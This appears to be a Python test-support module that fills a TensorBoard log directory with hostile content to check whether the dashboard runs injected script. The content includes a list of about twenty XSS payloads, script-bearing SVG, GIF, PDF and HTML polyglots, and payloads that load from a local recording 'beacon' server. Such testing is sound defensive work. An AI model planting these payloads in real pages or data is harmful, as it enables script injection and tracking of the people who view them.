"""An experiment that attacks who looks at it: every text and every blob of every plugin is a script,
or loads one from a beacon, an address that records who asks.
"""

from __future__ import annotations

import json
from contextlib import AbstractContextManager
from pathlib import Path

import tensorboard.compat.proto.graph_pb2 as graphs
from tensorboard.plugins.custom_scalar import layout_pb2
from tensorboard.plugins.hparams import plugin_data_pb2

from support.event_files import (
    graph_event,
    hparams_event,
    image_event,
    keras_graph_event,
    plugin_event,
    scalar_event,
    string_tensor_proto,
    text_event,
    version_event,
    write_records,
)
from support.faulty_server import FaultyServer, Reply, running
from support.hparams import set_value
from support.projector import write_projector_run

MARK = "attacked"
"""Text that an attack puts into `window.name`, which survives a change of page."""


class Beacon(FaultyServer):
    """A server that an attack would load something from; `asked` has the path of each request."""

    def __init__(self) -> None:
        super().__init__()
        headers = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"}
        self.replies = [Reply(200, f"window.name = '{MARK}'".encode(), headers)]

    @property
    def asked(self) -> list[str]:
        return [request.path for request in self.requests]


def beacon() -> AbstractContextManager[Beacon]:
    """Run a beacon until the block ends."""
    return running(Beacon())


def attacks(url: str) -> list[str]:
    """Return texts that would run a script, or load something from `url`, as HTML or Markdown."""
    run = f"window.name='{MARK}'"
    return [
        f"<script>{run}</script>",
        f"</script><script src={url}/script.js></script>",
        f'"><img src=x onerror="{run}">',
        f'<img src="{url}/image.png" srcset="{url}/set.png 2x">',
        f'<svg onload="{run}"><script>{run}</script></svg>',
        f'<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
        f'<iframe src="javascript:parent.{run}"></iframe><iframe src="{url}/frame"></iframe>',
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f'<object data="{url}/object"></object><embed src="{url}/embed">',
        f'<link rel=stylesheet href="{url}/style.css"><style>@import "{url}/import.css";</style>',
        f'<div style="background:url({url}/background)">styled</div>',
        f'<meta http-equiv=refresh content="0;url={url}/refresh"><base href="{url}/">',
        f'<form action="{url}/form"><input autofocus onfocus="{run}"></form>',
        f'<details open ontoggle="{run}"><video src="{url}/video" onerror="{run}"></details>',
        f"![picture]({url}/markdown.png) ![p](javascript:{run})",
        f"[link](javascript:{run}) <javascript:{run}>",
        f'[title](x "onmouseover={run}") <a href="data:text/html,<script>{run}</script>">data</a>',
        f'{{{{constructor.constructor("{run}")()}}}} ${{{run}}} [[{run}]]',
        f'<template><img src=x onerror="{run}"></template><math><mtext></mtext></math>',
        f'<noscript><p title="</noscript><img src=x onerror={run}>">',
    ]


def pictures(url: str) -> dict[str, bytes]:
    """Return blobs that are no pictures but documents with scripts."""
    script = f"window.name='{MARK}';fetch('{url}/blob')"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script>'
    return {
        "svg": f'{svg}<image href="{url}/svg.png"/></svg>'.encode(),
        "html": f"<!doctype html><script>{script}</script><img src={url}/html.png>".encode(),
        "xml": f'<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml">'
        f"<script>{script}</script></x>".encode(),
        "gif": b"GIF89a/*" + b"\0" * 20 + f"*/=1;{script}".encode(),
        "pdf": f"%PDF-1.4 /OpenAction << /S /JavaScript /JS ({script}) >>".encode(),
    }


def write_hostile_logdir(logdir: Path, url: str) -> None:
    """Write runs with hostile content of every kind that TensorBoard's page shows."""
    texts = attacks(url)
    all_of_it = "\n\n".join(texts)
    for number, name in enumerate(["plain", texts[0], texts[2]]):
        events = [
            version_event(),
            *(scalar_event(f"tag {text}", 0, 0.5) for text in texts[:6]),
            *(text_event(f"text/{index}", 0, text) for index, text in enumerate(texts)),
            text_event("table", 0, texts),
            text_event("all", 0, all_of_it),
            *(image_event(f"image/{kind}", 0, [blob]) for kind, blob in pictures(url).items()),
            hparams_event("_hparams_/experiment", _hparams_experiment(texts)),
            hparams_event("_hparams_/session_start_info", _session_start(texts, number)),
            plugin_event(
                "custom_scalars",
                "custom_scalars__config__",
                0,
                string_tensor_proto([_layout(texts)], ()),
            ),
            graph_event(_graph(texts)),
            keras_graph_event("keras", 0, json.dumps(_keras_model(texts))),
        ]
        # A run's name is its directory: without the slashes of end tags.
        directory = logdir / name.replace("/", "\u2215")[:200]
        write_records(directory / "events.out.tfevents.1.host", events)
    write_projector_run(logdir / "plain")
    _spoil_embeddings(logdir / "plain", texts, pictures(url)["svg"], url)


def _hparams_experiment(texts: list[str]) -> bytes:
    data = plugin_data_pb2.HParamsPluginData(version=0)
    data.experiment.description = data.experiment.name = data.experiment.user = "".join(texts)
    for text in texts:
        info = data.experiment.hparam_infos.add(name=text, display_name=text, description=text)
        info.type = 1
        metric = data.experiment.metric_infos.add(display_name=text, description=text)
        metric.name.tag = f"tag {text}"
    return data.SerializeToString()


def _session_start(texts: list[str], number: int) -> bytes:
    data = plugin_data_pb2.HParamsPluginData(version=0)
    data.session_start_info.group_name = texts[number]
    data.session_start_info.model_uri = f"javascript:window.name='{MARK}'"
    data.session_start_info.monitor_url = f"javascript:window.name='{MARK}'"
    for text in texts:
        set_value(data.session_start_info.hparams[text], text)
    return data.SerializeToString()


def _layout(texts: list[str]) -> bytes:
    layout = layout_pb2.Layout()
    for text in texts[:3]:
        category = layout.category.add(title=text)
        chart = category.chart.add(title=text)
        chart.multiline.tag.extend([".*script.*", text])
    return layout.SerializeToString()


def _graph(texts: list[str]) -> bytes:
    graph = graphs.GraphDef()
    for text in texts:
        node = graph.node.add(name=f"scope/{text}", op=text, device=text)
        node.attr[text].s = text.encode()
    return graph.SerializeToString()


def _keras_model(texts: list[str]) -> dict[str, object]:
    layers = [
        {"class_name": text, "name": text, "config": {"name": text, "dtype": text}}
        for text in texts
    ]
    return {"class_name": "Sequential", "config": {"name": texts[0], "layers": layers}}


def _spoil_embeddings(run: Path, texts: list[str], svg: bytes, url: str) -> None:
    """Replace labels, sprite and bookmarks of the projector's run."""
    words = run / "00000" / "words"
    labels = [text.replace("\t", " ").replace("\n", " ") for text in texts]
    rows = "".join(
        f"{labels[row % len(labels)]}\t{labels[-row % len(labels)]}\n" for row in range(60)
    )
    (words / "metadata.tsv").write_text(f"{labels[0]}\t{labels[2]}\n{rows}")
    (run / "sprite.svg").write_bytes(svg)
    state = {"label": texts[2], "tSNEIteration": 1, "projections": [], "selectedPoints": [1]}
    (run / "bookmarks.json").write_text(json.dumps([state]))
    config = run / "projector_config.pbtxt"
    bookmarks = 'bookmarks_path: "bookmarks.json"'
    sprite = 'sprite { image_path: "sprite.svg" single_image_dim: 8 single_image_dim: 8 }'
    text = config.read_text().replace(bookmarks, f"{bookmarks} {sprite}")
    config.write_text(f'{text}\nmodel_checkpoint_path: "{url}/checkpoint"\n')
